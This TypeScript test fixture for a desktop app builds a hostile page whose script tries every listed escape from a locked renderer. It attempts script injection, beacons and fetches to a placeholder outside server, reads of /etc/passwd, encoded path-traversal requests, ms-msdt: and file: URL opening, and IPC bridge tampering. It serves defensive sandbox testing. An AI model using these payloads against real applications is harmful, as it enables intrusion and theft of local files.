/** A hostile page and its script: every known way out of a locked page, attempted by the page's own code (promises A2 to A11). */

/** The page's results. */
export interface AttackReport {
  /** Which pieces of code ran. */
  readonly ran: readonly string[];
  /** The result of each attack: the name of its exception, or its value. */
  readonly outcomes: Readonly<Record<string, string>>;
  /** The directives of the content security policy that were violated. */
  readonly violations: readonly string[];
}

type Attack = (outside: string, api: string) => unknown;

/** Markup that attacks by itself; `outside` is a server that must never get a request. */
export function attackPage(outside: string): string {
  return `<!doctype html>
<html>
  <head>
    <meta charset="utf-8" />
    <script src="./attack.js"></script>
    <base href="${outside}/base/" />
    <meta http-equiv="refresh" content="1;url=${outside}/refreshed" />
    <link rel="stylesheet" href="${outside}/style.css" />
    <script>ran.push('inline script');</script>
    <script src="${outside}/script.js"></script>
  </head>
  <body onload="ran.push('onload attribute')">
    <img src="/absent.png" onerror="ran.push('onerror attribute')" />
    <img src="${outside}/picture.png" />
    <iframe src="${outside}/frame.html"></iframe>
    <iframe src="/"></iframe>
    <iframe srcdoc="<script>parent.ran.push('srcdoc')</script>"></iframe>
    <object data="${outside}/object.html"></object>
    <embed src="${outside}/embed.html" />
    <a id="script-link" href="javascript:ran.push('javascript link')">x</a>
    <a id="blank-link" href="https://example.com/2" target="_blank">x</a>
    <form id="form" action="${outside}/form" method="post"></form>
  </body>
</html>`;
}

/** The page's own script: runs each attack after loading and stores the report where a test can read it. */
export function attackScript(outside: string, api: string): string {
  const list = Object.entries(attacks).map(([name, attack]) => `${JSON.stringify(name)}: ${attack.toString()}`);
  return `const attacks = {\n${list.join(',\n')}\n};\n(${runAttacks.toString()})(attacks, '${outside}', '${api}');`;
}

function runAttacks(all: Record<string, Attack>, outside: string, api: string): void {
  const LIMIT_MS = 1_500;
  const ran: string[] = ['own script'];
  const violations = new Set<string>();
  const outcomes: Record<string, string> = {};
  Object.assign(window, { ran });
  document.addEventListener('securitypolicyviolation', (event) => violations.add(event.effectiveDirective));
  const limit = () => new Promise((done) => setTimeout(() => done('no answer'), LIMIT_MS));
  addEventListener('load', () => {
    void (async () => {
      for (const [name, attack] of Object.entries(all)) {
        try {
          outcomes[name] = String(await Promise.race([attack(outside, api), limit()]));
        } catch (error) {
          outcomes[name] = (error as Error).name;
        }
      }
      // Longer than the refresh in the page's head, so that a navigation would have happened.
      await limit();
      const report = { ran, outcomes, violations: [...violations] };
      document.documentElement.dataset['report'] = JSON.stringify(report);
    })();
  });
}

/** Each is self-contained: its text becomes page code, so it refers to nothing outside itself. */
const attacks: Record<string, Attack> = {
  innerHTML: () => Reflect.set(document.createElement('div'), 'innerHTML', '<b onclick="ran.push(1)">x</b>'),
  outerHTML: () => {
    document.body.appendChild(document.createElement('p')).outerHTML = '<b>x</b>';
  },
  insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
  'document.write': () => {
    const write: unknown = Reflect.get(document, 'write');
    (write as (text: string) => void).call(document, '<b>x</b>');
  },
  srcdoc: () => {
    document.createElement('iframe').srcdoc = '<b>x</b>';
  },
  'script text': () => {
    document.createElement('script').text = "ran.push('script text')";
  },
  'script src': (outside) => {
    document.createElement('script').src = `${outside}/created.js`;
  },
  eval: () => Reflect.apply(Reflect.get(window, 'eval') as (code: string) => void, window, ["ran.push('eval')"]),
  Function: () =>
    Reflect.construct(Reflect.get(window, 'Function') as new (code: string) => object, ["ran.push('Function')"]),
  'timer text': () =>
    Reflect.apply(Reflect.get(window, 'setTimeout') as (code: string) => void, window, ["ran.push('timer')"]),
  'created handler': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', "ran.push('created handler')");
    button.click();
  },
  'javascript link': () => (document.getElementById('script-link') as HTMLElement).click(),
  worker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))),

  'fetch api': (_outside, api) => fetch(`${api}/reached`).then((response) => response.status),
  'fetch outside': (outside) =>
    fetch(`${outside}/fetch`).then(
      () => 'reached',
      () => 'refused',
    ),
  'fetch file': () =>
    fetch('file:///etc/passwd').then(
      () => 'reached',
      () => 'refused',
    ),
  import: (outside) =>
    import(`${outside}/module.js`).then(
      () => 'reached',
      () => 'refused',
    ),
  XMLHttpRequest: (outside) =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${outside}/xhr`);
      request.onload = () => done('reached');
      request.onerror = () => done('refused');
      request.send();
    }),
  WebSocket: (outside) =>
    new Promise((done) => {
      const socket = new WebSocket(outside.replace('http', 'ws'));
      socket.onopen = () => done('reached');
      socket.onerror = () => done('refused');
    }),
  EventSource: (outside) =>
    new Promise((done) => {
      const source = new EventSource(`${outside}/events`);
      source.onopen = () => done('reached');
      source.onerror = () => done('refused');
    }),
  beacon: (outside) => navigator.sendBeacon(`${outside}/beacon`, 'x'),
  picture: (outside) => {
    new Image().src = `${outside}/beacon.png`;
  },

  'own file': () => fetch('/attack.js').then((response) => response.status),
  'read package': () => fetch('/..%2fpackage.json').then((response) => response.status),
  'read main': () => fetch('/..%2fdist-electron%2fmain.js').then((response) => response.status),
  'read backslash': () => fetch('/..%5cpackage.json').then((response) => response.status),
  'read twice encoded': () => fetch('/%252e%252e%252fpackage.json').then((response) => response.status),
  'read absolute': () => fetch('//etc/passwd'.slice(1)).then((response) => response.status),
  'read null': () => fetch('/index.html%00.js').then((response) => response.status),
  'read route': () => fetch('/service').then((response) => response.status),

  // A navigation takes a moment, and the next one would end it.
  location: (outside) => {
    location.assign(`${outside}/assigned`);
    return new Promise((done) => setTimeout(() => done('stayed'), 700));
  },
  'location data': () => location.assign('data:text/html,<script>1</script>'),
  form: () => (document.getElementById('form') as HTMLFormElement).submit(),
  'window.open': () => {
    const opened = [window.open('https://example.com/1')];
    (document.getElementById('blank-link') as HTMLElement).click();
    for (const address of ['http://example.com/', 'file:///etc/passwd', 'ms-msdt:/id', 'https://user@example.com/'])
      opened.push(window.open(address));
    for (const number of [3, 4, 5, 6]) opened.push(window.open(`https://example.com/${number}`));
    return opened.find((handle) => handle !== null) ?? 'null';
  },

  notifications: () => Notification.requestPermission(),
  camera: () =>
    navigator.mediaDevices.getUserMedia({ video: true }).then(
      () => 'granted',
      () => 'denied',
    ),
  geolocation: () =>
    new Promise((done) =>
      navigator.geolocation.getCurrentPosition(
        () => done('granted'),
        () => done('denied'),
      ),
    ),

  'bridge keys': () => Object.keys(Reflect.get(window, 'desktop') as object).join(),
  'bridge after tampering': () => {
    const bridge = Reflect.get(window, 'desktop') as object;
    Reflect.set(bridge, 'readStartup', null);
    Reflect.set(bridge, 'send', () => 'sent');
    Reflect.deleteProperty(bridge, 'openExternal');
    Reflect.set(window, 'desktop', {});
    const now = Reflect.get(window, 'desktop') as Record<string, unknown>;
    return Object.keys(now)
      .filter((key) => typeof now[key] === 'function')
      .join();
  },
  'node globals': () => {
    const names = ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'];
    return [...new Set(names.map((name) => typeof Reflect.get(window, name)))].join();
  },
  ...Object.fromEntries(
    Object.entries({
      'ipc number': ['openExternal', '123'],
      'ipc object': ['openExternal', '{ href: "https://example.com" }'],
      'ipc array': ['loginHelper', '["token"]'],
      'ipc nothing': ['loginHelper', 'undefined'],
      'ipc date': ['requestSweep', 'new Date(0)'],
      'ipc map': ['readStartup', 'new Map([["a", 1]])'],
      'ipc over 1 MiB': ['loginHelper', '"x".repeat(1024 * 1024 + 1)'],
    }).map(([name, [channel = '', argument = '']]) => [name, hostileCall(channel, argument)]),
  ),
};

/** A call of the bridge whose argument is written as page code, because it differs per attack. */
function hostileCall(channel: string, argument: string): Attack {
  const code = `() => desktop[${JSON.stringify(channel)}](${argument}).then((answer) => JSON.stringify(answer))`;
  return Object.assign((): unknown => undefined, { toString: () => code });
}
